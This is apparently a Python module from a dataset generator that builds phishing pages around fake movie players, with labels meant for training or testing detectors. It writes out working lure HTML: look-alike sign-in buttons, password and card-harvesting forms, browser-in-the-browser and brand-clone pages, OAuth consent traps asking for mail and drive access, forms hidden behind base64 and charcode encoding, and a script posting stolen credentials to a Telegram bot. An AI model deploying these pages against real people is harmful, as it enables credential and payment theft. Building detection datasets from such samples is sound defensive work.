"""Lure pages outside the platforms: fake players with sign-in, OAuth-consent and payment traps.

Each ``lure_*`` function returns ``(url, html)`` for a film; they are pure (ids come from hashes of
their arguments), so the same film always gets the same page. :mod:`replica.content.landings` files
them into :class:`~replica.dataset.Landing` objects with their ground truth.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from urllib.parse import quote

from replica.content.films import Film
from replica.content.markup import GOOGLE_OAUTH, code_for, page

__all__ = ["LURE_PAGES", "LurePage"]


def _player_shell(film: Film, brand: str, inner: str) -> str:
    """The fake video player every lure wraps its sign-in trap in."""
    return page(
        f"{film.shown} ({film.year_text}) Full Movie HD - {brand}",
        f'<header class="site"><a href="/">{brand}</a></header>\n<main><div class="player-wrap">'
        f'<video poster="/posters/{film.slug}.jpg" '
        'preload="none"></video><div class="play-overlay">&#9654;</div>'
        f'<div class="modal"><h1>{film.shown} ({film.year_text})</h1>{inner}</div></div>'
        f"<p>HD 1080p &middot; 4K &middot; Subtitles</p></main>",
        head='<link rel="stylesheet" href="/assets/player.css">',
    )


LurePage = Callable[[Film], tuple[str, str]]


def lure_facebook_button(film: Film) -> tuple[str, str]:
    host = "hd-player.stream-now.xyz"
    url = f"https://{host}/watch/{film.slug}"
    nxt = quote(url, safe="")
    return url, _player_shell(
        film,
        "StreamNow HD",
        (
            "<p>This video is available for registered members only. Sign in to continue watching "
            "in HD.</p>"
            '<a class="btn btn-facebook" '
            f'href="https://faceb00k-login.example/login.php?next={nxt}">'
            '<img src="/img/fb.svg" alt="f"> Continue with Facebook</a>'
        ),
    )


def lure_google_button(film: Film) -> tuple[str, str]:
    host = "moviebox-hd.example"
    url = f"https://{host}/movie/{film.slug}-{film.year_text}.html"
    return url, _player_shell(
        film,
        "MovieBox",
        (
            "<p>Verify you are not a robot to unlock the free HD stream.</p>"
            '<a class="g-signin-button" '
            'href="https://accounts.google.com.signin-verify.xyz/ServiceLogin?service=mail'
            f'&amp;continue={quote(url, safe="")}"><img '
            'src="/img/google-g.svg" alt="G"> Sign in with Google</a>'
        ),
    )


def lure_apple_button(film: Film) -> tuple[str, str]:
    url = f"https://flixstream.test/film/{film.slug}"
    return url, _player_shell(
        film,
        "FlixStream",
        (
            "<p>Your free preview has ended. Sign in to keep watching.</p>"
            '<a class="apple-signin" href="https://appleid.apple.com-auth.example/auth/authorize?client_id=com.flixstream.web'
            '&amp;response_type=code">&#63743; Sign in with Apple</a>'
        ),
    )


def lure_microsoft_button(film: Film) -> tuple[str, str]:
    url = f"https://cinema4k.xyz/play/{film.slug}/"
    return url, _player_shell(
        film,
        "Cinema4K",
        (
            "<p>Sign in with your Microsoft account to stream in 4K.</p>"
            '<a class="ms-btn" href="https://login.microsoftonline.com.oauth-secure.test/common/login?wa=wsignin1.0">'
            "Sign in with Microsoft</a>"
        ),
    )


def _password_form(action: str, button: str) -> str:
    return (
        f'<form class="login" action="{action}" method="post">'
        '<label>Email or phone <input type="email" name="email" autocomplete="username"></label>'
        '<label>Password <input type="password" name="pass" '
        'autocomplete="current-password"></label>'
        f'<button type="submit">{button}</button></form>'
    )


def lure_password_gate(film: Film) -> tuple[str, str]:
    url = f"https://watchfullhd.example/{film.slug}-full-movie"
    return url, _player_shell(
        film,
        "WatchFullHD",
        (
            "<p>Create your FREE account to unlock the full movie. It only takes 10 seconds!</p>"
            + _password_form("/gate.php", "Continue watching")
        ),
    )


def lure_telegram(film: Film) -> tuple[str, str]:
    url = f"https://streamflix-free.xyz/stream/{film.slug}"
    bot = "https://api.telegram.org/bot7351942268:AAHq3kR-replica-fake-token/sendMessage"
    return url, _player_shell(
        film,
        "StreamFlix Free",
        (
            "<p>Log in with your Facebook or Google account to start the stream.</p>"
            + _password_form(bot, "Log in to watch")
            + '<input type="hidden" name="chat_id" value="-1002233445566">'
            + "<script>document.querySelector('form.login').onsubmit="
            f"function(e){{e.preventDefault();"
            f"fetch('{bot}?chat_id=-1002233445566&text='+encodeURIComponent(new "
            "FormData(this).get('email')+':'"
            "+new FormData(this).get('pass')));location='/player';}};</script>"
        ),
    )


def lure_card_form(film: Film) -> tuple[str, str]:
    url = f"https://premium-movies.example/free-trial/{film.slug}"
    return url, _player_shell(
        film,
        "Premium Movies",
        (
            "<p><b>Free account!</b> We only need to verify your age. You will NOT be charged "
            "($0.00).</p>"
            '<form action="https://billing-secure.payverify.test/charge.php" method="post">'
            '<input name="email" type="email" placeholder="Email"><input '
            'name="password" type="password" placeholder="Choose a password">'
            '<input name="cc_number" inputmode="numeric" placeholder="Card number" '
            'autocomplete="cc-number">'
            '<input name="cc_exp" placeholder="MM/YY" autocomplete="cc-exp"><input '
            'name="cvv" placeholder="CVV" autocomplete="cc-csc">'
            "<button>Activate free account</button></form>"
        ),
    )


def lure_browser_in_browser(film: Film) -> tuple[str, str]:
    url = f"https://hdmovies-online.test/watch/{film.slug}.html"
    return url, _player_shell(
        film,
        "HDMovies Online",
        (
            '<div class="bitb-window" role="dialog"><div '
            'class="bitb-titlebar"><span class="lock">&#128274;</span>'
            '<span class="bitb-url">https://accounts.google.com/signin/v2/identifier?flowName=GlifWebSignIn</span>'
            '<span class="bitb-close">&times;</span></div><div '
            'class="bitb-body"><img src="/img/google-logo.svg" alt="Google">'
            "<h2>Sign in</h2><p>to continue to HDMovies</p>"
            + _password_form("/api/v1/session", "Next")
            + "</div></div>"
        ),
    )


def lure_oauth_google(film: Film) -> tuple[str, str]:
    url = f"https://moviecloud.example/m/{film.slug}"
    auth = GOOGLE_OAUTH.format(
        client="48213377120-" + code_for("gclient", 20).lower(),
        redirect=quote("https://moviecloud.example/oauth/callback", safe=""),
        scope=quote(
            "https://mail.google.com/ https://www.googleapis.com/auth/drive "
            "https://www.googleapis.com/auth/contacts",
            safe="",
        ),
    )
    return url, _player_shell(
        film,
        "MovieCloud",
        (
            "<p>Link your Google account to unlock unlimited HD streaming.</p>"
            f'<a class="google-btn" href="{auth}">Continue with Google</a>'
        ),
    )


def lure_oauth_microsoft(film: Film) -> tuple[str, str]:
    url = f"https://stream-hd.xyz/title/{film.slug}"
    scope = quote(
        "offline_access Mail.ReadWrite Files.ReadWrite.All Contacts.Read User.Read", safe=""
    )
    auth = (
        "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=3f2a9c51-8e0d-4b7a-9c1e-5d6f7a8b9c0d"
        "&amp;response_type=code&amp;redirect_uri="
        f"{quote('https://stream-hd.xyz/auth/ms', safe='')}"
        f"&amp;scope={scope}&amp;response_mode=query"
    )
    return url, _player_shell(
        film,
        "StreamHD",
        (
            "<p>Sign in with your Outlook / Microsoft account to watch free.</p>"
            f'<a class="ms-btn" href="{auth}">Sign in with Microsoft</a>'
        ),
    )


def lure_atob_form(film: Film) -> tuple[str, str]:
    """Static HTML shows only "Loading"; a script makes the form (only a render shows it)."""
    url = f"https://filmhd-player.test/p/{film.slug}"
    hidden = (
        "<h2>Members only</h2><p>Sign in with Facebook to continue watching</p>"
        + _password_form("https://filmhd-player.test/gate.php", "Log In")
    )
    encoded = base64.b64encode(hidden.encode()).decode()
    return url, page(
        f"{film.shown} - HD Player",
        (
            f'<div id="app"><h1>{film.shown} ({film.year_text})</h1><p '
            'class="loading">Loading player&hellip;</p></div>'
            f'<script>document.write(atob("{encoded}"));</script>'
        ),
    )


def lure_charcode_button(film: Film) -> tuple[str, str]:
    url = f"https://watch-hd-movies.xyz/v/{film.slug}"
    hidden = (
        '<a class="btn-facebook" href="https://faceb00k-login.example/login.php?skip_api_login=1">'
        "Continue with Facebook</a>"
        + _password_form("https://watch-hd-movies.xyz/collect.php", "Log in")
    )
    codes = ",".join(str(ord(c)) for c in hidden)
    return url, page(
        f"{film.shown} ({film.year_text}) Streaming",
        (
            f'<div id="player"><h1>{film.shown}</h1><div id="gate"></div></div>'
            f"<script>document.getElementById('gate').innerHTML=String.fromCharCode({codes});</script>"
        ),
    )


def lure_lookalike_login(film: Film) -> tuple[str, str]:
    """A cloned Facebook login page on a look-alike domain (posts link straight to it)."""
    url = f"https://faceb00k-login.example/login.php?next=watch-{film.slug}"
    return url, page(
        "Log in to Facebook",
        (
            '<div class="fb-clone"><img src="/rsrc/fb_logo.svg" '
            'alt="facebook"><p>Log in to continue to the video</p>'
            + _password_form("/login/device-based/regular/login/", "Log In")
            + '<a href="/recover/initiate/">Forgotten password?</a></div>'
        ),
    )


def lure_brand_clone(film: Film) -> tuple[str, str]:
    url = f"https://netflix-account-verify.example/{film.slug}/signin"
    return url, page(
        "Netflix",
        (
            "<h1>Sign In</h1><p>Your membership is on hold. Update "
            f"your payment details to watch {film.shown}.</p>"
            + '<form action="https://netflix-account-verify.example/billing/update.php" '
            'method="post">'
            '<input name="email" type="email"><input name="password" type="password">'
            '<input name="card" placeholder="Card number"><input '
            'name="cvv" placeholder="CVV"><button>Sign In</button></form>'
        ),
    )


#: variant name -> (page builder, needs_js, is a fake player)
LURE_PAGES: dict[str, tuple[LurePage, bool, bool]] = {
    "facebook_button": (lure_facebook_button, False, True),
    "google_button": (lure_google_button, False, True),
    "apple_button": (lure_apple_button, False, True),
    "microsoft_button": (lure_microsoft_button, False, True),
    "password_gate": (lure_password_gate, False, True),
    "telegram_exfil": (lure_telegram, False, True),
    "card_form": (lure_card_form, False, True),
    "browser_in_browser": (lure_browser_in_browser, False, True),
    "oauth_google": (lure_oauth_google, False, True),
    "oauth_microsoft": (lure_oauth_microsoft, False, True),
    "atob_form": (lure_atob_form, True, True),
    "charcode_button": (lure_charcode_button, True, True),
    "lookalike_login": (lure_lookalike_login, False, False),
    "brand_clone": (lure_brand_clone, False, False),
}
